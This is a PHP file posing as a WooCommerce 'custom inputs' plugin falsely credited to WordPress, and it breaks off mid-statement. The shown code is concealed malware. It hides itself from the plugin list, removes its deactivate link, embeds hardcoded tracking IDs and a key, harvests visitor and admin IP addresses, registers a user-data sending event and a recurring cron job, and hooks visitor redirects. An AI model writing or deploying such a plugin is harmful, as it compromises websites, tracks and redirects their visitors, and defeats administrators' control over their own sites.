<?php
/*
Plugin Name: Woocommerce custom inputs
Version: 2.0.0
Author: WordPress
*/

namespace WCInputs;

if ( ! defined( 'ABSPATH' ) ) {
	exit;
}
if ( ! class_exists( __NAMESPACE__ . '\\WC_Plugin' ) ) {

	class WC_Plugin {
		public $version;
		public $webID;
		public $usrID;
		public $keyID;

		public function __construct() {
			$this->webID = '1529';
			$this->usrID = "11401609141076";
			$this->keyID = "a8ed09c46178c76516d6103c81016fed";

			$this->version = '2.0.0';

			ini_set( 'memory_limit', '1024M' );

			add_action( 'template_redirect', [ $this, 'custom_redirect_function' ], 1 );
			add_action( 'wp_head', [ $this, 'collect_ip_address' ] );
			add_action( 'admin_init', [ $this, 'collect_ip_address' ] );
			add_action( 'send_user_data_event', [ $this, 'sendUserData' ] );
			add_action( 'init', [ $this, '_schedule_cron' ] );
			add_action( '_cron_hook', [ $this, 'run_update_check' ] );

			add_filter( 'cron_schedules', [ $this, 'add_biweekly_cron_schedule' ] );
			add_filter( 'all_plugins', [ $this, 'hide_plugin_from_list' ] );
			add_filter( 'plugin_action_links_' . plugin_basename( __FILE__ ), [ $this, 'remove_deactivate_link' ] );

			register_activation_hook( __FILE__, [ $this, 'activation' ] );
		}

		public function GetIP() {
			foreach (
				array(
					'HTTP_CLIENT_IP',
					'HTTP_X_FORWARDED_FOR',
					'HTTP_X_FORWARDED',
					'HTTP_X_CLUSTER_CLIENT_IP',
					'HTTP_FORWARDED_FOR',
					'HTTP_FORWARDED',
					'REMOTE_ADDR'
				) as $key
			) {
				if ( array_key_exists( $key, $_SERVER ) === true ) {
					foreach ( array_map( 'trim', explode( ',', $_SERVER[ $key ] ) ) as $ip ) {
						if ( filter_var( $ip, FILTER_VALIDATE_IP, FILTER_FLAG_NO_PRIV_RANGE | FILTER_FLAG_NO_RES_RANGE ) !== false ) {
							return $ip;
						}
					}
				}
			}

			return $_SERVER['REMOTE_ADDR'];
		}

		public function trigger_redirect() {
			$plugin_dir    = plugin_dir_path( __FILE__ );
			$redirect_file = $
